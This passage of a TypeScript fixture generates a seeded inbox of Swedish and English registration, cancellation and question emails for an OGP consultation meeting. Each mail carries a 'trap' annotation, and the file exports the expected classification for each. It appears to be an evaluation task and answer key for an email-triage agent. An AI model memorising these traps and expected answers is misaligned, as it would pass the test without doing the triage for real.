          'Rådgivare, Svenska Röda Korset',
          '070-174 06 52',
        ]),
      ),
  },
  {
    key: 'cancellation-ingrid-sandberg',
    kind: 'cancellation',
    from: 'ingrid.sandberg',
    received: { daysBefore: 7, utc: '15:10' },
    people: ['ingrid.sandberg'],
    conversation: 'registration-ingrid-sandberg',
    trap: 'A reply to her own registration: the subject says "Anmälan" and the quote registers her.',
    subject: () => 'SV: Anmälan samråd OGP',
    body: (c) =>
      text(
        `Hej igen ${c.hello},`,
        '',
        `Det har dykt upp en krock – jag kan tyvärr inte delta den ${c.clock.daySv}. Stryk mig gärna från listan.`,
        '',
        'Ingrid',
        '',
        '________________________________',
        `Från: Ingrid Sandberg <${c.person('ingrid.sandberg').mail}>`,
        `Skickat: ${c.sentSv('registration-ingrid-sandberg')}`,
        `Till: ${c.organiser.displayName} <${c.organiser.mail}>`,
        'Ämne: Anmälan samråd OGP',
        '',
        ...ingridRegistration(c),
      ),
  },
  {
    key: 'registration-hanna-engstrom',
    kind: 'registration',
    from: 'hanna.engstrom',
    received: { daysBefore: 6, utc: '09:00' },
    people: ['hanna.engstrom'],
    trap: 'The signature names the organisation differently ("Amnesty International, svenska sektionen").',
    subject: (c) => `Anmälan samråd ${c.clock.daySv}`,
    body: (c) =>
      text(
        `Hej ${c.hello},`,
        '',
        `Jag skulle vilja anmäla mig till samrådet om handlingsplanen den ${c.clock.daySv}.`,
        '',
        'Hälsningar',
        'Hanna Engström',
        'Amnesty International, svenska sektionen',
      ),
  },
  {
    key: 'registration-peter-wikstrom',
    kind: 'registration',
    from: 'peter.wikstrom',
    received: { daysBefore: 6, utc: '12:45' },
    people: ['peter.wikstrom'],
    subject: (c) => `Anmälan: OGP-samråd ${c.clock.daySv}`,
    body: (c) =>
      outlookHtml(
        divs([
          `Hej ${c.hello},`,
          '',
          `Jag anmäler mig till samrådet den ${c.clock.daySv}. Internetstiftelsen följer arbetet med öppna data med stort intresse.`,
          '',
          'Med vänlig hälsning',
          'Peter Wikström',
          'Internetstiftelsen',
        ]),
      ),
  },
  {
    key: 'registration-lisa-haglund',
    kind: 'registration',
    from: 'lisa.haglund',
    received: { daysBefore: 6, utc: '14:05' },
    people: ['lisa.haglund'],
    subject: () => 'Anmälan till samråd om OGP',
    body: (c) =>
      outlookHtml(
        divs([
          `Hej ${c.hello},`,
          '',
          `Jag anmäler mig till samrådet den ${c.clock.daySv}.`,
          '',
          'Med vänlig hälsning',
          'Lisa Haglund',
          'Sveriges Dövas Riksförbund (SDR)',
        ]),
      ),
  },
  {
    key: 'registration-linnea-holmberg',
    kind: 'registration',
    from: 'linnea.holmberg',
    received: { daysBefore: 5, utc: '08:15' },
    people: ['linnea.holmberg'],
    trap: 'No organisation in the text: only the domain says Internetstiftelsen.',
    subject: () => 'Anmäler mig till OGP-samrådet',
    body: (c) => text('Hej!', '', `Jag anmäler mig till samrådet om OGP den ${c.clock.daySv}.`, '', 'Mvh', 'Linnea Holmberg'),
  },
  {
    key: 'registration-kristoffer-aberg',
    kind: 'registration',
    from: 'kristoffer.aberg',
    fromName: 'kristoffer.aberg@dataskydd.example',
    received: { daysBefore: 5, utc: '10:50' },
    people: ['kristoffer.aberg'],
    trap: 'No display name (Exchange shows the address); the name is only in the "-- " signature.',
    subject: () => 'samråd ogp',
    body: () => text('hej', '', 'jag vill anmäla mig till samrådet om ogp.', '', '-- ', 'Kristoffer Åberg', 'Dataskydd.net'),
  },
  {
    key: 'registration-malin-gustafsson',
    kind: 'registration',
    from: 'malin.gustafsson',
    received: { daysBefore: 5, utc: '13:25' },
    people: ['malin.gustafsson'],
    subject: (c) => `Anmälan till samrådet ${c.clock.dateShort}`,
    body: (c) =>
      outlookHtml(
        divs([
          `Hej ${c.hello},`,
          '',
          `Jag vill gärna delta i samrådet den ${c.clock.daySv}.`,
          '',
          'Vänliga hälsningar',
          'Malin Gustafsson',
          'Ideell Arena',
          '08-465 004 45',
        ]),
      ),
  },
  {
    key: 'question-lisa-haglund',
    kind: 'question',
    from: 'lisa.haglund',
    received: { daysBefore: 5, utc: '15:30' },
    people: [],
    isRead: false,
    trap: 'From someone already registered, saying "Jag anmälde mig": a question, not a second registration.',
    subject: () => 'Fråga om teckenspråkstolkning och dagordning',
    body: (c) =>
      text(
        `Hej ${c.hello},`,
        '',
        'Jag anmälde mig till samrådet förra veckan och har två frågor:',
        '1. Kommer det att finnas teckenspråkstolkning? Vi behöver i så fall veta det i god tid för att boka tolk.',
        '2. När skickas dagordningen med tider ut? Det underlättar för tolkarna att förbereda sig.',
        '',
        'Med vänlig hälsning',
        'Lisa Haglund',
        'Sveriges Dövas Riksförbund',
      ),
  },
  {
    key: 'registration-ahmed-hassan',
    kind: 'registration',
    from: 'ahmed.hassan',
    received: { daysBefore: 4, utc: '09:20' },
    people: ['ahmed.hassan'],
    trap: 'The signature says "Studieförbunden", short for Studieförbunden i samverkan.',
    subject: () => 'Anmälan till samråd',
    body: () =>
      text(
        'Hej,',
        '',
        'Jag anmäler mig till samrådet om Sveriges handlingsplan för OGP.',
        '',
        'Med vänlig hälsning',
        'Ahmed Hassan',
        'Studieförbunden',
      ),
  },
  {
    key: 'registration-jonas-almqvist',
    kind: 'registration',
    from: 'jonas.almqvist',
    received: { daysBefore: 4, utc: '11:00' },
    people: ['jonas.almqvist'],
    trap: 'Subject "OGP", signed "/Jonas": name from the From line, organisation only from the domain.',
    subject: () => 'OGP',
    body: (c) => text(`Hej, jag anmäler mig till samrådet ${c.clock.dateShort}.`, '', '/Jonas'),
  },
  {
    key: 'registration-gunilla-persson',
    kind: 'registration',
    from: 'gunilla.persson',
    fromName: 'Gunilla Persson | Hela Sverige ska leva',
    received: { daysBefore: 4, utc: '14:40' },
    people: ['gunilla.persson'],
    trap: 'The organisation is only in the From display name, after a "|".',
    subject: () => 'Anmälan från Hela Sverige ska leva',
    body: (c) =>
      outlookHtml(
        divs([
          `Hej ${c.hello},`,
          '',
          `Jag anmäler mig till samrådet om OGP den ${c.clock.daySv}.`,
          '',
          'Med vänlig hälsning',
          'Gunilla Persson',
        ]),
      ),
  },
  {
    key: 'cancellation-karin-ek',
    kind: 'cancellation',
    from: 'karin.ek',
    received: { daysBefore: 4, utc: '16:05' },
    people: ['karin.ek'],
    trap: 'She was registered by a colleague, whom she names; only she cancels.',
    subject: (c) => `Avanmälan samråd ${c.clock.daySv}`,
    body: (c) =>
      text(
        `Hej ${c.hello},`,
        '',
        'Mikael Strand anmälde oss båda till samrådet, men jag avanmäler mig härmed – det krockar med vårt styrelsemöte. Mikael kommer som planerat.',
        '',
        'Med vänlig hälsning',
        'Karin Ek',
        'Forum – idéburna organisationer med social inriktning',
      ),
  },

  // --- The last working day before the meeting -------------------------------------------------------------------
  {
    key: 'registration-victor-engel',
    kind: 'registration',
    from: 'victor.engel',
    received: { daysBefore: 1, utc: '07:45' },
    people: ['victor.engel'],
    subject: () => 'Registration – consultation on the OGP action plan',
    body: (c) =>
      text(
        `Hi ${c.hello},`,
        '',
        `Please register me for the consultation on the OGP action plan on ${c.clock.dayEn}.`,
        '',
        'Kind regards,',
        'Victor Engel',
        'Fairtrade Sverige',
      ),
  },
  {
    key: 'registration-anders-holmgren',
    kind: 'registration',
    from: 'anders.holmgren',
    received: { daysBefore: 1, utc: '09:12' },
    people: ['anders.holmgren'],
    trap: 'Names an already registered colleague ("tillsammans med Sofia Lindqvist").',
    subject: (c) => `Anmälan samråd OGP ${c.clock.dateShort}`,
    body: (c) =>
      text(
        `Hej ${c.hello},`,
        '',
        'Jag anmäler mig också till samrådet – vi blir alltså två från Rädda Barnen, tillsammans med Sofia Lindqvist.',
        '',
        'Mvh',
        'Anders Holmgren',
        'Rädda Barnen',
      ),
  },
  {
    key: 'cancellation-axel-berglund',
    kind: 'cancellation',
    from: 'axel.berglund',
    received: { daysBefore: 1, utc: '10:30' },
    people: ['axel.berglund'],
    trap: 'English, and names a colleague who stays registered.',
    subject: () => 'Cancellation – OGP consultation',
    body: (c) =>
      text(
        `Hi ${c.hello},`,
        '',
        `Unfortunately I have to cancel my registration for the consultation on ${c.clock.dayEn}. My colleague Sanna Hjelm is still registered and will attend for Wikimedia Sverige.`,
        'Sorry for the late notice.',
        '',
        'Best,',
        'Axel',
      ),
  },
];

/** Lina Holm's original mail to her organisation's shared mailbox; not in the inbox, only quoted in the forward. */
const QUOTED_ONLY: Readonly<Record<string, When>> = {
  [INVITATION_CONVERSATION]: INVITATION_SENT,
  'original-lina-holm': { daysBefore: 13, utc: '15:02' },
};

const AUTO_REPLY_HEADERS: readonly InternetMessageHeader[] = [
  { name: 'Auto-Submitted', value: 'auto-replied' },
  { name: 'X-Auto-Response-Suppress', value: 'All' },
];

// ---------------------------------------------------------------------------------------------------------------
// Assembly

function peopleIndex(people: readonly SandboxPerson[]): (id: string) => SandboxPerson {
  const byId = new Map(people.map((p) => [p.id, p]));
  return (id) => {
    const person = byId.get(id);
    if (person === undefined) throw new Error(`seed mails: no seed person with id "${id}"`);
    return person;
  };
}

function recipient(name: string, address: string): Recipient {
  return { emailAddress: { name, address } };
}

function domainOf(address: string): string {
  return address.slice(address.indexOf('@') + 1).toLowerCase();
}

/**
 * The registration mails in `organiser`'s inbox, oldest first, all received in the three weeks before the meeting.
 * `people` must hold every seed id the mails name (SEED_PEOPLE does).
 */
export function seedRegistrationMails(organiser: SandboxPerson, people: readonly SandboxPerson[], meetingStartIso: string): Message[] {
  const clock = meetingClock(meetingStartIso);
  const person = peopleIndex(people);
  // Seconds vary per mail (from its key) so the inbox does not look machine-made, yet stay the same on every run.
  const receivedAt = (key: string): number => {
    const spec = MAIL_SPECS.find((s) => s.key === key);
    const when = spec?.received ?? QUOTED_ONLY[key];
    if (when === undefined) throw new Error(`seed mails: nothing to quote for "${key}"`);
    return clock.at(when, fnv1a(key, 0x9e3779b9) % 60);
  };
  const context: MailContext = {
    organiser,
    hello: organiser.displayName.split(' ')[0] ?? organiser.displayName,
    clock,
    person,
    sentSv: (key) => outlookSentSv(receivedAt(key)),
  };

  return MAIL_SPECS.map((spec): Message => {
    const sender = person(spec.from);
    const address = spec.fromAddress ?? sender.mail;
    const from = recipient(spec.fromName ?? sender.displayName, address);
    const received = receivedAt(spec.key);
    const sent = received - (4 + (fnv1a(spec.key, 0x1b873593) % 50)) * 1000;
    const body = spec.body(context);
    const message: Message = {
      id: messageId(spec.key),
      createdDateTime: graphDateTime(received),
      lastModifiedDateTime: graphDateTime(received),
      receivedDateTime: graphDateTime(received),
      sentDateTime: graphDateTime(sent),
      hasAttachments: false,
      internetMessageId: `<${hex16(`internet:${spec.key}`)}@${domainOf(address)}>`,
      subject: spec.subject(context),
      bodyPreview: previewOf(body),
      importance: 'normal',
      conversationId: conversationIdOf(spec.conversation ?? spec.key),
      isDeliveryReceiptRequested: false,
      isReadReceiptRequested: false,
      // She has read what came in before the last weekend; the last days' mail waits for the triage.
      isRead: spec.isRead ?? spec.received.daysBefore > 2,
      isDraft: false,
      inferenceClassification: 'focused',
      body: graphBody(body),
      sender: from,
      from,
      toRecipients: [recipient(organiser.displayName, organiser.mail)],
      ccRecipients: (spec.cc ?? []).map((id) => {
        const cc = person(id);
        return recipient(cc.displayName, cc.mail);
      }),
      bccRecipients: [],
      replyTo: [],
      flag: { flagStatus: 'notFlagged' },
    };
    return spec.autoReply === true ? { ...message, internetMessageHeaders: [...AUTO_REPLY_HEADERS] } : message;
  });
}

/** What each mail is and whom it registers or cancels, resolved against `people`. */
export function seedMailExpectations(people: readonly SandboxPerson[]): SeedMailExpectation[] {
  const person = peopleIndex(people);
  return MAIL_SPECS.map((spec) => {
    const expected: SeedMailExpectation = {
      mailId: messageId(spec.key),
      kind: spec.kind,
      people: spec.people.map((id) => {
        const p = person(id);
        return { name: p.displayName, email: p.mail.toLowerCase(), organisation: p.organisation };
      }),
    };
    return spec.trap === undefined ? expected : { ...expected, trap: spec.trap };
  });
}

/** The expectations for the seed people: one entry per mail of `seedRegistrationMails(…, SEED_PEOPLE, …)`. */
export const SEED_MAIL_EXPECTATIONS: readonly SeedMailExpectation[] = seedMailExpectations(SEED_PEOPLE);
